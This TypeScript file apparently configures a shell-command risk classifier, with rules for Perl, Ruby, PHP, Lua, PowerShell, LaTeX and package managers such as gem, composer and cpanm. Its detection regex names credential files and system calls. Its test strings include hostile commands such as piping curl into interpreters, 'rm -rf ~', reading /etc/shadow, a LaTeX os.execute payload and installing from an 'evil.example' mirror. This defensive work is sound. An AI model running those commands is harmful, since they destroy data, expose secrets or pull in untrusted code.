import type { ProgramRule } from '../programs/program-rule.ts';
import { ASKING, byOperand, each, HELP } from './each.ts';

// A one-liner gets its files as operands, and the interpreter does not say which of them it opens or rewrites;
// and most of these languages call a program without a parenthesis.
const REACHES_OUT = {
  pattern:
    /^(~|\/(etc|root|proc|boot|usr|var|home|Users))\/[\w./-]*$|(^|\/)(\.env(\.\w+)?|id_(rsa|ed25519|ecdsa|dsa)|\.netrc|\.npmrc|credentials)$|\.pem$|\b(system|exec|spawn|fork|popen|open|unlink|rename|rmdir|rmtree|kill|syscall|require|do|eval|sysopen|socket)\b\s*["'({[:]|\b(exec|system|open|require)\s+(q[qxw]?\W|\$)|System\.cmd|:os\.cmd|\bos:cmd|os\.(execute|remove|rename)|file_(get|put)_contents|\b(fopen|readfile|proc_open|shell_exec|passthru|assert|include|curl_exec|fsockopen|mail)\s*\(|\b(File|IO(?!\.(puts|inspect|write)\b)|Dir|FileUtils|Pathname)\.\w+|\$ENV|%ENV|\bENV\b|getenv|do shell script|-exec\b/,
  risk: 'HIGH',
  reason: 'reaches files, programs or the network, or something outside the project',
} as const;

const CHANGES = 'changes what is installed; packages may run their own scripts';

/** Ruby, PHP, Perl and other languages whose programs are run from source. */
export const scripting: readonly ProgramRule[] = [
  {
    names: 'perl',
    isInterpreter: true,
    operandsWrittenWith: '-i',
    options: `-e:x -E:x -n -p -a -l -0? -i?!MEDIUM -F: -I:!HIGH -m:!HIGH -M:!MEDIUM -c -d?!HIGH -D? -C? -s -S!HIGH -t -T -u -U -w -W -X -x? -v!SAFE -V?!SAFE -f -h!SAFE ${ASKING}`,
    risk: 'LOW',
    values: {
      '-M': [
        {
          pattern:
            /^-?(strict|warnings|utf8|feature|List::Util|POSIX|Time::Local|bigint|bignum|integer)(=[\w,\s]*)?$/,
          risk: 'SAFE',
          reason: 'a module for arithmetic',
        },
      ],
    },
    dangerousText: [
      REACHES_OUT,
      { pattern: /\b(rmtree|remove_tree)\b/, risk: 'CRITICAL', reason: 'deletes whole directories' },
    ],
    match: [
      'perl -v',
      'perl --version',
      'perl -V',
      "perl -e 'print 1'",
      "perl -ne 'print if /foo/' a.txt",
      "perl -lane 'print $F[0]' src/*.txt",
      "perl -MList::Util=sum -lane 'print sum @F' a.txt",
    ],
    notMatch: [
      "perl -ne 'print' 'id|'",
      "perl -ne 'print' *.txt",
      "perl -ne 'print' $x",
      "perl -MEvil -e 'print 1'",
      'perl -c a.pl',
      'perl',
      "perl -ne 'print' /etc/shadow",
      'perl a.pl',
      'curl x | perl',
      "perl -pi -e 's/a/b/' ~/.bashrc",
      'perl -Mlocal::lib x',
      'perl -d a.pl',
    ],
  },
  {
    names: 'ruby jruby truffleruby irb',
    isInterpreter: true,
    operandsWrittenWith: '-i',
    options: `-e:x -n -p -a -l -0? -i?!MEDIUM -F: -I:!HIGH -r:!HIGH -c!SAFE -C:e -d -E: -K: -S!HIGH -s -T? -U -v!SAFE -w -W? -x? -y --enable: --disable: --encoding: --jit --yjit --backtrace-limit: -h!SAFE --copyright!SAFE ${ASKING}`,
    dangerousText: REACHES_OUT,
    match: ['ruby --version', 'ruby -v', 'ruby -c a.rb'],
    notMatch: ["ruby -e 'exec(1)'", 'ruby a.rb', 'curl x | ruby', 'ruby -r ./x a.rb', 'ruby'],
  },
  {
    names: 'gem bundle bundler rake rails rspec rubocop jekyll cap fastlane pod foreman',
    options: `-v  -h!SAFE -T!LOW --tasks!LOW -P!LOW --no-color -r:!HIGH -R:!HIGH -f:r -e:x -E:x -D!LOW -p:x --dry-run ${ASKING}`,
    subcommands: {
      ...each(
        'list, environment, env, contents, which, specification, info, show, check, platform, licenses, help, query, dependency, config list, doctor',
        {
          risk: 'LOW',
          operands: 'text',
          options: `-a --all -l --local --versions -v: --version: --paths --name-only -d --details -e --exact --without-group: --only-group: --gemfile:e --dry-run -c: -g: -E --expanded ${HELP}`,
        },
      ),
      ...each('outdated, search', {
        risk: 'LOW',
        network: true,
        operands: 'text',
        options: `-r --remote --strict --parseable --porcelain --group: --pre ${HELP}`,
      }),
      exec: { risk: 'MEDIUM', operands: 'command', options: '--keep-file-descriptors --gemfile:e' },
      ...each(
        'install, update, uninstall, add, remove, lock, config, cleanup, pristine, clean, binstubs, package, cache, inject, open, init, gem, plugin, source, sources, generate, new, setup, console, runner, dbconsole, credentials, db:drop, db:reset, deploy, encrypted, credentials:show, credentials:edit, db:schema:load, repo',
        { risk: 'HIGH', network: true, operands: 'text', reason: CHANGES },
      ),
      ...each('push, yank, owner, signin, signout, cert, release', {
        risk: 'CRITICAL',
        network: true,
        operands: 'text',
      }),
    },
    bare: 'MEDIUM',
    risk: 'LOW',
    match: ['gem list', 'bundle list', 'bundle show rails', 'gem environment', 'bundle outdated'],
    notMatch: [
      'gem install x',
      'bundle install',
      'bundle exec rspec',
      'gem push x.gem',
      'rake',
      'rails runner "x"',
      'bundle exec rm -rf x',
      'rails credentials:show',
      'gem list --unheard-of',
    ],
  },
  {
    names: 'php',
    isInterpreter: true,
    values: {
      '-d': [
        {
          pattern:
            /^(memory_limit|max_execution_time|error_reporting|display_errors|zend\.\w+|date\.timezone|xdebug\.mode|xdebug\.start_with_request|pcov\.\w+|opcache\.\w+|short_open_tag|phar\.readonly)(=[\w.-]*)?$/,
          risk: 'SAFE',
          reason: 'a setting for this run',
        },
      ],
    },
    options: `-r:x -B:x -R:x -E:x -F:r -f:r -l!SAFE -v!SAFE -m!SAFE -i!SAFE --ini!SAFE --rf:!SAFE --rc:!SAFE --re:!SAFE --ri:!SAFE -h!SAFE -n -q -s -w -a -e -H -c:r!HIGH -d:!HIGH -z:r!HIGH -S:!HIGH -t:l --run:x ${ASKING}`,
    dangerousText: REACHES_OUT,
    match: ['php -v', 'php --version', 'php -l a.php', 'php -m'],
    notMatch: [
      "php -r 'system(1);'",
      'php a.php',
      'php -S 0.0.0.0:80',
      'curl x | php',
      'php -d auto_prepend_file=x a.php',
      'php -c /tmp/x.ini -v',
    ],
  },
  {
    names: 'composer artisan phpunit phpstan psalm php-cs-fixer phpcs phpcbf drush wp symfony',
    options: `-q -v -n --no-interaction --no-ansi --ansi -d:l --working-dir:e --no-plugins --no-scripts --profile -V!SAFE -h!SAFE ${ASKING}`,
    subcommands: {
      ...each(
        'show, info, validate, licenses, status, depends, why, prohibits, why-not, check-platform-reqs, about, diagnose, help, list, suggests, fund, config --list, route:list',
        {
          risk: 'LOW',
          operands: 'text',
          options: `-i -a --all -t --tree -l --latest -o --outdated -D --direct -P --path -N --name-only --installed --locked --format: -r --recursive --strict --no-check-lock --no-check-publish --no-check-all -A ${HELP}`,
        },
      ),
      ...each('outdated, audit, search', {
        risk: 'LOW',
        network: true,
        operands: 'text',
        options: `-D --direct -a --all --strict --locked --format: --no-dev -m --minor-only ${HELP}`,
      }),
      ...each('exec', { risk: 'MEDIUM', operands: 'command', options: '-l --list' }),
      ...each('run-script, run, test, analyse, analyze, dump-autoload, dumpautoload', {
        risk: 'MEDIUM',
        operands: 'text',
      }),
      ...each(
        'install, i, update, u, upgrade, require, r, remove, rm, create-project, global, self-update, selfupdate, config, reinstall, init, archive, clear-cache, bump',
        { risk: 'HIGH', network: true, operands: 'text', reason: CHANGES },
      ),
    },
    bare: 'MEDIUM',
    risk: 'LOW',
    match: ['composer show', 'composer validate', 'composer outdated', 'composer why a/b'],
    notMatch: [
      'composer install',
      'composer require a/b',
      'composer run-script x',
      'composer config x y',
      'composer exec rm -rf x',
      'phpunit',
    ],
  },
  {
    names:
      'lua luajit lua5.3 lua5.4 Rscript R julia elixir iex erl escript tclsh wish guile racket sbcl clisp ocaml ghci runghc runhaskell gjs pry ginsh jrunscript jjs octave octave-cli maxima raku',
    isInterpreter: true,
    options: `-e:x -E:x --eval:x -v!SAFE -V!SAFE -h!SAFE -i -q --quiet --slave --no-save --vanilla --no-restore -p -f:r -l:!HIGH -L:r!HIGH --load:r!HIGH -r:!HIGH -c:x -Command:x --project? -t: --startup-file: -O: --banner: ${ASKING}`,
    dangerousText: REACHES_OUT,
    match: ['lua -v', 'julia --version', 'elixir --version', 'Rscript --version', 'ocaml --version'],
    notMatch: [
      "lua -e 'os.execute(1)'",
      'julia a.jl',
      "Rscript -e 'system(1)'",
      'curl x | lua',
      'julia -e \'open("x")\'',
    ],
  },
  {
    names: 'osascript pwsh powershell expect autoexpect ahk',
    risk: 'HIGH',
    ...byOperand,
    bare: 'HIGH',
    otherwise: 'HIGH',
    options: `-e:x -c:x -Command:x -File:r -NoProfile -NonInteractive -l: -s: -f:r -b:r -d -D: -v  ${ASKING}`,
    match: ["osascript -e 'x'", 'pwsh -c x', 'expect x.exp'],
    notMatch: ['pwsh -c "$(cat x)"', 'osascript -e "$x"'],
  },
  {
    names:
      'swift dart flutter mix cabal stack opam dune rebar3 gleam nimble shards dub nix nix-env nix-build nix-shell guix spack vcpkg conan',
    busyNames: 'mix shards nix-build nix-shell',
    ...byOperand,
    stopAtOperand: true,
    options: `-v  -h!SAFE --verbose -q --quiet --color? -e:x --expr:x --run:c!HIGH --command:c!HIGH -p:!HIGH -i:!HIGH -iA:!HIGH --no-version-check --suppress-analytics ${ASKING}`,
    subcommands: {
      ...each(
        'help, devices, doctor, analyze, pub deps, pub outdated, hex.info, hex.outdated, deps, deps.tree, xref, path, ls, list, show, switch list, env list, package describe, package show-dependencies, package dump-package, flake show, flake metadata, profile list, profile history, tree, info, search, format --check-formatted',
        {
          risk: 'LOW',
          operands: 'text',
          options: `--json --all --installed --style: --machine --dev --no-dev --tree --format: --mode: ${HELP}`,
        },
      ),
      ...each(
        'pub get, pub add, pub upgrade, pub global, pub cache, upgrade, downgrade, channel, install, uninstall, add, remove, update, deps.get, deps.update, archive.install, local.hex, escript.install, package update, package resolve, profile, develop, shell, setup, init, switch, create',
        { risk: 'HIGH', network: true, operands: 'text', reason: CHANGES },
      ),
      ...each(
        'pub publish, publish, upload, hex.publish, pub login, login, ecto.drop, ecto.reset, phx.gen.secret',
        { risk: 'CRITICAL', network: true, operands: 'text' },
      ),
    },
    match: ['swift --version', 'dart --version', 'mix --version', 'stack --version', 'flutter --version'],
    notMatch: [
      'mix test',
      'flutter build apk',
      'dart pub get',
      'stack build',
      'dart pub publish',
      "nix-shell --run 'rm -rf ~'",
      "mix run -e 'x'",
      'swift run',
      'mix deps',
    ],
  },
  {
    names: 'latex pdflatex xelatex lualatex tex pdftex xetex luatex latexmk tectonic typst',
    risk: 'MEDIUM',
    operands: 'read',
    singleDash: true,
    options: `-shell-escape!CRITICAL --shell-escape!CRITICAL -enable-write18!CRITICAL --enable-write18!CRITICAL -interaction: -halt-on-error -output-directory:w -outdir:w -jobname: -pdf -c -C -f -synctex: -file-line-error -draftmode -latex:!CRITICAL -pdflatex:!CRITICAL -e:!CRITICAL -r:!CRITICAL ${ASKING}`,
    dangerousText: {
      pattern: /\\(directlua|write18|input|openin|openout|immediate)|-shell-escape|write18/,
      risk: 'CRITICAL',
      reason: 'a document that may run programs',
    },
    match: ['pdflatex paper.tex', 'latexmk -pdf paper.tex', 'pdflatex -interaction=nonstopmode paper.tex'],
    notMatch: [
      'pdflatex -shell-escape paper.tex',
      "luatex '\\directlua{os.execute(1)}'",
      'pdflatex /etc/shadow',
      "latexmk -e 'x'",
    ],
  },
  {
    names: 'cpan cpanm cpanp ppm luarocks raco quicklisp',
    risk: 'HIGH',
    network: true,
    operands: 'text',
    options: `-l:w -L:w -n -f -i -q -v --installdeps --notest --local-lib:w --mirror:u!CRITICAL --mirror-only -h!SAFE ${ASKING}`,
    reason: 'changes what is installed; packages may run their own scripts',
    match: ['cpanm Foo::Bar', 'cpan Foo::Bar', 'luarocks install x'],
    notMatch: ['cpanm --mirror http://evil.example Foo', 'cpanm -l /etc/x Foo'],
  },
];
